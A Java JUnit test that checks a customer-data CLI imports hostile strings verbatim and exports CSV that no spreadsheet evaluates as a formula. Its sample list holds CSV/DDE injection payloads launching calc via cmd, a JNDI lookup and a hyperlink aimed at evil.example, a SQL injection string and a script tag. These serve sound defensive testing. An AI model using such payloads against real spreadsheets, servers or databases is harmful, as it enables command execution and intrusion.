package org.clientele.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import de.siegmar.fastcsv.writer.CsvWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import org.clientele.data.write.CellType;
import org.clientele.data.write.Column;
import org.clientele.data.write.CsvFile;
import org.clientele.data.write.CsvStyle;
import org.clientele.model.run.Checkpoint;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What customers typed comes in as the text it is, and goes out so that no spreadsheet runs it. */
class InjectionTest {
    private static final List<String> OWN = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "+49 1234 and more",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "＝1＋1",
            "'=1+1",
            "\"=1+1",
            "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
            "O'Neill; drop table customer;--",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "مرحبا بالعالم",
            "👩‍👩‍👧‍👦 🏳️‍🌈",
            "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤a",
            "田中さんにあげて下さい",
            "a, \"b\"; c\td");

    @TempDir
    @SuppressWarnings("NullAway.Init")
    Path folder;

    private final CommandsUnderTest commands = new CommandsUnderTest();

    @Test
    void whatComesInGoesOutInertAndComesBackExactly() throws IOException, SQLException {
        List<String> texts = new ArrayList<>(OWN);
        texts.addAll(publicTexts());
        Path bench = bench();
        Path file = folder.resolve("customers.csv");
        try (CsvWriter out = CsvWriter.builder().build(file, StandardCharsets.UTF_8)) {
            out.writeRecord("customer_id", "name", "city", "region", "phone", "Remark", "Balance");
            for (int i = 0; i < texts.size(); i++) {
                String t = texts.get(i);
                out.writeRecord("c" + i, t, t, t, "+44740012" + (1000 + i), t, "-" + i + ".5");
            }
        }
        JsonNode done = commands.json(0, "import", bench, "customers", file, "--skip-bad");
        long in = done.at("/counts/created").asLong();
        assertTrue(in >= texts.size() * 0.97, done.toString());
        List<List<String>> held = held(bench);
        assertEquals(in, held.size());
        int same = 0;
        for (List<String> row : held) {
            String typed = texts.get(Integer.parseInt(row.getFirst().substring(1)));
            String text = bare(typed);
            for (int column : new int[] {1, 2, 3, 5}) {
                assertEquals(text, bare(row.get(column)), () -> "row " + row.getFirst());
            }
            same += typed.equals(row.get(1)) ? 1 : 0;
            assertTrue(row.get(4).startsWith("+44740012"), row.toString());
            assertTrue(row.get(6).startsWith("-"), row.toString());
        }
        assertTrue(same >= held.size() * 0.9, same + " of " + held.size() + " are the same to the last sign");

        Path out = folder.resolve("out.csv");
        List<Column> columns = List.of(
                Column.text("customer_id"),
                Column.text("name"),
                Column.text("city"),
                Column.text("region"),
                new Column("phone", CellType.PHONE),
                Column.text("Remark"),
                Column.number("Balance"));
        CsvFile.write(out, false, CsvStyle.forPeople(), columns, held, Checkpoint.none());
        int phones = 0;
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(out, StandardCharsets.UTF_8)) {
            for (CsvRecord line : reader) {
                for (int i = 0; i < line.getFieldCount(); i++) {
                    if (i == 4 || i == 6) {
                        phones += line.getField(i).startsWith("+44")
                                        || line.getField(i).startsWith("-")
                                ? 1
                                : 0;
                    } else {
                        assertFalse(runs(line.getField(i)), line.getField(i));
                    }
                }
            }
        }
        assertEquals(2 * held.size(), phones, "telephone numbers and negative numbers survive");
        JsonNode again = commands.json(0, "import", bench, "customers", out);
        List<List<String>> after = held(bench);
        for (int i = 0; i < held.size(); i++) {
            assertEquals(held.get(i), after.get(i));
        }
        assertEquals(0, again.at("/counts/updated").asLong(), again.toString());
        assertEquals(held.size(), again.at("/counts/unchanged").asLong());
        assertEquals(held, held(bench));
    }

    @Test
    void theFileOfRowsLeftOutIsInertAndComesBack() throws IOException, SQLException {
        Path bench = bench();
        Path file = folder.resolve("customers.csv");
        Files.writeString(
                file,
                "customer_id,name,phone,signup_date\n"
                        + "7,Anna,,2026-01-03\n8,Ben,,2026-01-04\n"
                        + "1,=cmd|' /C calc'!A0,+447400123456,soon\n"
                        + "\"=\"\"0012\"\"\",@SUM(1),-5,soon\n");
        Path rejects = folder.resolve("left-out.csv");
        commands.json(0, "import", bench, "customers", file, "--rejects", rejects);
        String text = Files.readString(rejects);
        assertTrue(text.contains(",'=cmd|' /C calc'!A0,+447400123456,soon"), text);
        assertTrue(text.contains(",'@SUM(1),-5,soon"), text);
        Files.writeString(rejects, text.replace("soon", "2026-01-02"));
        JsonNode done = commands.json(0, "import", bench, "customers", rejects);
        assertEquals(2, done.at("/counts/created").asInt(), done.toString());
        assertEquals("=cmd|' /C calc'!A0", held(bench).get(2).get(1));
        assertEquals("0012", held(bench).get(3).getFirst());
    }

    private Path bench() throws IOException {
        Path bench = folder.resolve("bench");
        commands.json(0, "new", bench, "--country", "GB", "--currency", "GBP", "--zone", "UTC");
        return bench;
    }

    /** Whether a spreadsheet takes a cell for a formula. */
    private static boolean runs(String cell) {
        return !cell.isEmpty() && "=+-@＝＋－＠\t\r\n\0".indexOf(cell.charAt(0)) >= 0;
    }

    /** The text without what nobody sees at its ends, and without the apostrophe by which a spreadsheet marks text. */
    private static String bare(String text) {
        String bare = text.replaceAll("^[\\s\\p{Z}\\p{Cc}\\p{Cf}]+|[\\s\\p{Z}\\p{Cc}\\p{Cf}]+$", "");
        return bare.matches("(?s)'[0-9=+@-].*") ? bare.substring(1) : bare;
    }

    private static List<List<String>> held(Path bench) throws SQLException, IOException {
        List<List<String>> rows = new ArrayList<>();
        try (Connection c = DriverManager.getConnection(
                        "jdbc:h2:file:" + bench.resolve("workbench") + ";IFEXISTS=TRUE", "sa", "");
                Statement s = c.createStatement();
                ResultSet r =
                        s.executeQuery("select number, name, city, region, phone, extras from customer order by id")) {
            while (r.next()) {
                JsonNode extras =
                        new ObjectMapper().readTree(text(r.getString(6)).isEmpty() ? "{}" : r.getString(6));
                rows.add(List.of(
                        text(r.getString(1)),
                        text(r.getString(2)),
                        text(r.getString(3)),
                        text(r.getString(4)),
                        text(r.getString(5)),
                        extras.path("Remark").asText(""),
                        extras.path("Balance").asText("")));
            }
        }
        return rows;
    }

    private static String text(@Nullable String given) {
        return given == null ? "" : given;
    }

    /** The public lists of formulas and naughty strings, where they are. */
    private static List<String> publicTexts() throws IOException {
        List<String> texts = new ArrayList<>();
        Path io = Path.of("..", "shared", "data", "io");
        Path formulas = io.resolve("csv-injection/Intruder/csv-payload.txt");
        Path naughty = io.resolve("naughty-strings/blns.json");
        if (Files.exists(formulas) && Files.exists(naughty)) {
            texts.addAll(Files.readAllLines(formulas));
            for (JsonNode each : new ObjectMapper().readTree(naughty.toFile())) {
                texts.add(each.asText());
            }
        }
        // NUL is no text, and a backslash before a quote is another way to write one: the reading of files has its own
        // tests
        texts.removeIf(text -> text.indexOf('\0') >= 0 || text.contains("\\\""));
        return texts;
    }
}
